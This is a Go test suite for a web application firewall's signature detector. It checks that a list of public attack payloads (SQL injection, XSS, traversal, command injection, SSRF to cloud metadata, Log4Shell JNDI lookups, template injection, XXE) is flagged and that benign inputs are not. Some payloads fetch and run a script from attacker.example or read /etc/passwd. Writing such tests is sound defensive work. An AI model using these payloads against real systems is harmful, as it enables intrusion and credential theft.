package signature_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/bulwarkhq/bulwark/threat"
	"github.com/bulwarkhq/bulwark/threat/signature"
)

// Public payloads: OWASP cheat sheets, PayloadsAllTheThings, sqlmap's
// boundaries, the Log4Shell advisories, and real exploit requests from
// published CVEs. None comes from ../shared/data.
var attacks = []struct {
	family string
	where  string // "q" query value, "path", "ua" User-Agent, "header:Name", "method", "body:type"
	value  string
}{
	// SQL injection
	{"sqli", "q", "' OR '1'='1"},
	{"sqli", "q", "1 UNION ALL SELECT NULL,NULL,NULL--"},
	{"sqli", "q", "1' AND SLEEP(5)#"},
	{"sqli", "q", "1; DROP TABLE users--"},
	{"sqli", "q", "admin'--"},
	{"sqli", "q", "1 AND (SELECT 1 FROM information_schema.tables)"},
	{"sqli", "q", "1'; WAITFOR DELAY '0:0:5'--"},
	{"sqli", "q", "1 AND extractvalue(1,concat(0x7e,version()))"},
	{"sqli", "q", "-1' UNION/**/SELECT/**/username,password/**/FROM/**/users#"},
	{"sqli", "ua", "Mozilla/5.0' AND 1=(SELECT 1 FROM PG_SLEEP(5))--"},
	// XSS
	{"xss", "q", "<script>alert(1)</script>"},
	{"xss", "q", "<img src=x onerror=alert(document.domain)>"},
	{"xss", "q", "\"><svg/onload=confirm(1)>"},
	{"xss", "q", "javascript:alert(document.cookie)"},
	{"xss", "q", "<iframe src=\"javascript:alert(`xss`)\">"},
	{"xss", "q", "<body onload=alert('XSS')>"},
	{"xss", "q", "&lt;script&gt;alert(1)&lt;/script&gt;"},
	{"xss", "q", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"},
	// Traversal and file inclusion
	{"traversal", "q", "../../../../etc/passwd"},
	{"traversal", "q", "..\\..\\..\\windows\\win.ini"},
	{"traversal", "q", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
	{"traversal", "q", "....//....//etc/passwd"},
	{"traversal", "q", "php://filter/convert.base64-encode/resource=index.php"},
	{"traversal", "q", "file:///etc/shadow"},
	{"traversal", "q", "http://evil.example/shell.txt?"},
	{"traversal", "path", "/static/../../../etc/passwd"},
	// Command injection
	{"cmdi", "q", "; cat /etc/passwd"},
	{"cmdi", "q", "| id"},
	{"cmdi", "q", "`whoami`"},
	{"cmdi", "q", "$(curl http://attacker.example/x.sh | sh)"},
	{"cmdi", "q", "127.0.0.1 && ping -c 3 attacker.example"},
	{"cmdi", "q", "x;${IFS}cat${IFS}/etc/passwd"},
	{"ssi", "q", "<!--#exec cmd=\"/bin/ls\"-->"},
	{"cmdi", "ua", "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
	{"cmdi", "q", "system('id')"},
	// SSRF
	{"ssrf", "q", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
	{"ssrf", "q", "http://metadata.google.internal/computeMetadata/v1/"},
	{"ssrf", "q", "http://127.0.0.1:6379/"},
	{"ssrf", "q", "http://2130706433/admin"},
	{"ssrf", "q", "http://0x7f000001/"},
	{"ssrf", "q", "http://[::ffff:127.0.0.1]/"},
	{"ssrf", "q", "gopher://localhost:6379/_FLUSHALL"},
	// Code, template, deserialisation
	{"code", "ua", "${jndi:ldap://attacker.example/a}"},
	{"code", "header:X-Api-Version", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"},
	{"code", "header:Referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/x}"},
	{"ssti", "q", "{{7*7}}"},
	{"ssti", "q", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
	{"ssti", "q", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
	{"ssti", "q", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
	{"code", "q", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"},
	{"code", "q", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="},
	{"code", "q", `O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`},
	{"code", "q", "<?php system($_GET['c']); ?>"},
	{"xxe", "body:application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
	// command lines in an XML body reach the command family as the values
	// they are (text, attribute, CDATA), not through the document whole
	{"cmdi", "body:application/xml", `<ping><host>127.0.0.1; cat /etc/passwd</host></ping>`},
	{"cmdi", "body:application/xml", `<ping host="127.0.0.1 &amp;&amp; cat /etc/passwd"/>`},
	{"cmdi", "body:application/xml", `<?xml version="1.0"?><r><![CDATA[$(cat /etc/passwd)]]></r>`},
	{"cmdi", "body:text/html", `<html><body><p>x</p><pre>; /bin/bash -c 'cat /etc/passwd'</pre></body></html>`},
	{"code", "body:application/json", `{"__proto__":{"isAdmin":true}}`},
	{"nosql", "body:application/json", `{"user":{"$ne":null},"password":{"$ne":null}}`},
	{"ldap", "q", "*)(uid=*))(|(uid=*"},
	{"code", "q", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
	// Scanners
	{"scanner", "ua", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{"scanner", "ua", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
	{"scanner", "ua", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
	{"scanner", "ua", "Fuzz Faster U Fool v2.1.0"},
	{"scanner", "path", "/.env"},
	{"scanner", "path", "/.git/config"},
	{"scanner", "path", "/.claude/settings.json"},
	{"scanner", "path", "/app/.cursor/mcp.json"},
	{"scanner", "path", "/.aider.conf.yml"},
	{"scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
	// a copy of a server's source with a backup's suffix is served as text
	{"scanner", "path", "/config.php~"},
	{"scanner", "path", "/includes/db.inc.bak"},
	{"scanner", "path", "/.index.php.swp"},
	{"scanner", "path", "/app/settings.py.old"},
	{"scanner", "header:Acunetix-Product", "WVS/14.0"},
	// Protocol
	{"protocol", "method", "TRACE"},
	{"protocol", "header:Transfer-Encoding", "chunked"}, // with a Content-Length, below
	{"protocol", "header:Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10,10-11,11-12"},
	{"crlf", "q", "x\r\nSet-Cookie: session=attacker"},
	{"protocol", "header:Content-Type", "text/html; charset=UTF-7"},
}

// Benign values: what real users and browsers send, including the shapes
// that trip naive filters (apostrophes, ampersands, URLs, code words).
var benign = []struct{ where, value string }{
	{"path", "/blog/claude-vs-cursor-for-code-review"},
	{"path", "/docs/continue/setup"},
	{"q", "O'Brien"},
	{"q", "Tom & Jerry"},
	{"q", "AT&T customer service"},
	{"q", "rock and roll or jazz"},
	{"q", "select a size"},
	{"q", "C++ programming"},
	{"q", "1/2 inch copper pipe"},
	{"q", "john.doe+shop@example.com"},
	{"q", "https://www.example.com/products?id=42&ref=home"},
	{"q", "c/ caridad s/n, 3º 2ª"},
	{"q", "¿Dónde está la estación?"},
	{"q", "2024-05-01T10:00:00Z"},
	{"q", "price < 100 and rating > 4"},
	{"q", "how to use the cat command"},
	{"q", "The Who - Live at Leeds"},
	{"q", "10.0.0.0/8 subnet calculator"},
	{"q", "email me: a.b@c.de; thanks!"},
	{"q", "{\"size\":\"M\",\"color\":\"red\"}"},
	{"q", "50% off -- today only!"},
	{"q", "Drop me a line (at) example"},
	{"ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
	{"ua", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"},
	{"ua", "curl/8.5.0"},
	{"header:Referer", "https://www.google.com/search?q=running+shoes&oq=running"},
	{"header:Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
	{"path", "/api/v1/orders/123/items"},
	{"path", "/assets/app.3f2a1c.min.js"},
	{"path", "/docs/notes.bak"},
	{"path", "/img/logo.png.old"},
	{"path", "/blog/php~tips"},
	{"path", "/downloads/tool-1.2.tar.gz"},
	{"body:application/json", `{"name":"Ana","address":{"street":"Calle Mayor 1","city":"Madrid"},"tags":["a","b"]}`},
}

// build makes a request carrying value where the case says.
func build(t testing.TB, where, value string) *http.Request {
	t.Helper()
	method, target := "GET", "/search"
	var body string
	var ctype string
	switch {
	case where == "q":
		target = "/search?q=" + url.QueryEscape(value) + "&page=1"
	case where == "path":
		target = value
	case where == "method":
		method = value
	case strings.HasPrefix(where, "body:"):
		method, body, ctype = "POST", value, strings.TrimPrefix(where, "body:")
	}
	r := httptest.NewRequest(method, "http://shop.example"+target, strings.NewReader(body))
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36")
	r.Header.Set("Accept-Language", "en-US,en;q=0.5")
	if ctype != "" {
		r.Header.Set("Content-Type", ctype)
	}
	switch {
	case where == "ua":
		r.Header.Set("User-Agent", value)
	case strings.HasPrefix(where, "header:"):
		name := strings.TrimPrefix(where, "header:")
		r.Header[http.CanonicalHeaderKey(name)] = []string{value}
		if name == "Transfer-Encoding" {
			r.Header.Set("Content-Length", "4")
		}
	}
	return r
}

func detect(t testing.TB, d threat.Detector, r *http.Request) []threat.Signal {
	t.Helper()
	req := threat.NewRequest(r, "client", "", threat.Limits{})
	return d.Detect(req, nil)
}

func TestAttacksAreFoundByTheirFamily(t *testing.T) {
	d, err := signature.New(signature.Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range attacks {
		sigs := detect(t, d, build(t, c.where, c.value))
		best := 0.0
		for _, s := range sigs {
			if s.Detector == c.family && s.Confidence > best {
				best = s.Confidence
			}
			if s.Family != signature.Name || s.Rule == "" || s.Location == "" || len(s.Evidence) > 48 {
				t.Errorf("%q: malformed signal %+v", c.value, s)
			}
		}
		if best < 0.9 {
			t.Errorf("%s in %s %q: best %s confidence %.2f, want >= 0.9 (signals %v)", c.family, c.where, c.value, c.family, best, rulesOf(sigs))
		}
	}
}

func TestBenignValuesRaiseNoStrongSignal(t *testing.T) {
	d, err := signature.New(signature.Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range benign {
		for _, s := range detect(t, d, build(t, c.where, c.value)) {
			if s.Confidence >= 0.9 {
				t.Errorf("benign %s %q: %s (%.2f) at %s: %q", c.where, c.value, s.Rule, s.Confidence, s.Location, s.Evidence)
			}
		}
	}
}

// The verdict cache remembers clean header values only: a payload in a
// header is found on every request, including after the same rule already
// fired elsewhere in an earlier request.
func TestVerdictCacheNeverHidesAPayload(t *testing.T) {
	d, err := signature.New(signature.Config{})
	if err != nil {
		t.Fatal(err)
	}
	payload := "' OR 1=1-- "
	first := build(t, "q", payload) // the rule fires on the query value...
	first.Header.Set("Referer", payload)
	if !hasFamily(detect(t, d, first), "sqli") {
		t.Fatal("payload not found in the first request")
	}
	for i := 0; i < 3; i++ { // ...and the header alone is still caught
		r := build(t, "header:Referer", payload)
		if !hasFamily(detect(t, d, r), "sqli") {
			t.Fatalf("request %d: payload in Referer missed after caching", i)
		}
	}
	// A clean value seen many times stays clean and costs nothing new.
	for i := 0; i < 3; i++ {
		if sigs := detect(t, d, build(t, "ua", benign[20].value)); len(sigs) > 0 {
			t.Fatalf("clean user agent flagged: %v", rulesOf(sigs))
		}
	}
}

func TestOneSignalPerRuleAndRequest(t *testing.T) {
	d, _ := signature.New(signature.Config{})
	q := url.Values{}
	for i := 0; i < 50; i++ {
		q.Add("p"+string(rune('a'+i%26))+string(rune('a'+i/26)), "' OR '1'='1")
	}
	r := httptest.NewRequest("GET", "/x?"+q.Encode(), nil)
	seen := map[string]bool{}
	for _, s := range detect(t, d, r) {
		if seen[s.Rule] {
			t.Fatalf("rule %s reported twice", s.Rule)
		}
		seen[s.Rule] = true
	}
	if !seen["sqli.libinjection"] {
		t.Fatalf("want sqli.libinjection among %v", seen)
	}
}

func TestDisable(t *testing.T) {
	d, err := signature.New(signature.Config{Disable: []string{"sqli", "scanner"}})
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(d.Detectors(), ","); got != "xss,traversal,cmdi,ssrf,ssti,xxe,nosql,ldap,ssi,crlf,code,protocol" {
		t.Fatalf("Detectors() = %s", got)
	}
	if sigs := detect(t, d, build(t, "q", "' OR '1'='1")); hasFamily(sigs, "sqli") {
		t.Fatal("disabled family still reports")
	}
	if sigs := detect(t, d, build(t, "ua", "sqlmap/1.7")); hasFamily(sigs, "scanner") {
		t.Fatal("disabled scanner family still reports")
	}
	if _, err := signature.New(signature.Config{Disable: []string{"sqlinjection"}}); err == nil || !strings.Contains(err.Error(), "Config.Disable") {
		t.Fatalf("unknown family: err = %v, want one naming Config.Disable", err)
	}
	if _, err := signature.New(signature.Config{MaxScan: -1}); err == nil || !strings.Contains(err.Error(), "MaxScan") {
		t.Fatalf("negative MaxScan: err = %v", err)
	}
}

func TestWindowsCoverTheWholeValue(t *testing.T) {
	// MaxScan is a window, not a cut: a payload anywhere in a long value is
	// seen, at the start, across a window boundary (within the overlap)
	// and at the end.
	d, _ := signature.New(signature.Config{MaxScan: 256})
	payload := "<script>alert(1)</script>"
	for _, at := range []int{0, 100, 215, 224, 5000, 9000} {
		v := strings.Repeat("a", at) + payload + strings.Repeat("b", 300)
		if sigs := detect(t, d, build(t, "q", v)); !hasFamily(sigs, "xss") {
			t.Errorf("payload at byte %d of a %d-byte value not found", at, len(v))
		}
	}
	// evidence stays bounded whatever the value's length
	v := strings.Repeat("a", 100_000) + payload
	for _, s := range detect(t, d, build(t, "q", v)) {
		if len(s.Evidence) > 64 {
			t.Errorf("%s evidence of %d bytes", s.Rule, len(s.Evidence))
		}
	}
}

func hasFamily(sigs []threat.Signal, family string) bool {
	for _, s := range sigs {
		if s.Detector == family {
			return true
		}
	}
	return false
}

func rulesOf(sigs []threat.Signal) []string {
	var out []string
	for _, s := range sigs {
		out = append(out, s.Rule)
	}
	return out
}

func FuzzDetect(f *testing.F) {
	for _, c := range attacks {
		f.Add(c.value, "q")
	}
	for _, c := range benign {
		f.Add(c.value, "ua")
	}
	f.Add("\xff\xfe%00%%%u0000${${", "header:X-Api-Version")
	d, err := signature.New(signature.Config{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, value, where string) {
		switch where {
		case "q", "ua", "path", "header:Referer", "header:X-Api-Version", "body:application/json", "body:text/plain":
		default:
			where = "q"
		}
		if where == "path" && !strings.HasPrefix(value, "/") {
			value = "/" + value
		}
		r, err := http.NewRequest("POST", "http://x/search", strings.NewReader(value))
		if err != nil {
			return
		}
		switch {
		case where == "q":
			r.URL.RawQuery = "q=" + value
		case where == "path":
			r.URL.Path = value
		case where == "ua":
			r.Header.Set("User-Agent", value)
		case strings.HasPrefix(where, "header:"):
			r.Header.Set(strings.TrimPrefix(where, "header:"), value)
		default:
			r.Header.Set("Content-Type", strings.TrimPrefix(where, "body:"))
		}
		for _, s := range detect(t, d, r) {
			if s.Confidence <= 0 || s.Confidence > 1 || len(s.Evidence) > 48 || len(s.Location) > 80 {
				t.Fatalf("bad signal %+v", s)
			}
			for i := 0; i < len(s.Evidence); i++ {
				if c := s.Evidence[i]; c < 0x20 || c >= 0x7f {
					t.Fatalf("unprintable evidence %q", s.Evidence)
				}
			}
		}
	})
}

// A value found clean where a family looks less hard (a header it reads
// only for JNDI, say) must not be taken as clean where it looks harder: the
// verdict cache is per place, so an attacker cannot launder a payload
// through a decoy header, the path, or another header first.
func TestVerdictCacheCannotBeLaundered(t *testing.T) {
	decoys := []string{"header:X-Decoy", "header:Accept-Language", "header:X-Real-Ip", "header:Origin",
		"header:X-Forwarded-For", "header:X-Forwarded-Host", "header:Referer", "ua", "path"}
	for _, c := range attacks {
		if c.where == "method" || strings.HasPrefix(c.where, "body:") || c.where == "q" {
			continue // parameters and bodies are never cached
		}
		fresh, err := signature.New(signature.Config{})
		if err != nil {
			t.Fatal(err)
		}
		want := rulesOf(detect(t, fresh, build(t, c.where, c.value)))
		for _, decoy := range decoys {
			if decoy == c.where || decoy == "path" && !strings.HasPrefix(c.value, "/") {
				continue
			}
			d, err := signature.New(signature.Config{})
			if err != nil {
				t.Fatal(err)
			}
			for range 2 {
				detect(t, d, build(t, decoy, c.value))
			}
			if got := rulesOf(detect(t, d, build(t, c.where, c.value))); !slices.Equal(got, want) {
				t.Errorf("%s %q after the same value in %s: rules %v, want %v", c.where, c.value, decoy, got, want)
			}
		}
	}
}

// Padding (a long run of one letter or digit) before a payload: the tail
// is read as a value of its own, so rules that judge how a value starts
// see the payload's start.
func TestAfterPadding(t *testing.T) {
	pad := strings.Repeat("A", 100)
	cases := []struct {
		v, want string
		ok      bool
	}{
		{pad + "' OR 1=1--", "' OR 1=1--", true},
		{pad + " /etc/passwd", "/etc/passwd", true},
		{pad + "%20%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd", true},
		{"x" + pad + "y" + pad + "z", "z", true},
		{strings.Repeat("A", 63) + " tail", "", false},
		{pad, "", false},
		{"short", "", false},
	}
	for _, c := range cases {
		got, ok := signature.AfterPadding(c.v)
		if ok != c.ok || got != c.want {
			t.Errorf("afterPadding(%.20q…) = %q, %v; want %q, %v", c.v, got, ok, c.want, c.ok)
		}
	}
	d, _ := signature.New(signature.Config{})
	for _, v := range []string{strings.Repeat("a", 9000) + " /etc/httpd/conf/httpd.conf", strings.Repeat("b", 3000) + "%20'%20OR%201=1--"} {
		sigs := detect(t, d, build(t, "q", v))
		best := 0.0
		for _, s := range sigs {
			if s.Detector != "scanner" && s.Rule != "probe.long_run" {
				best = max(best, s.Confidence)
			}
		}
		if best < 0.99 {
			t.Errorf("padded %.30q…: best family confidence %.2f (%v)", v[len(v)-30:], best, rulesOf(sigs))
		}
	}
}
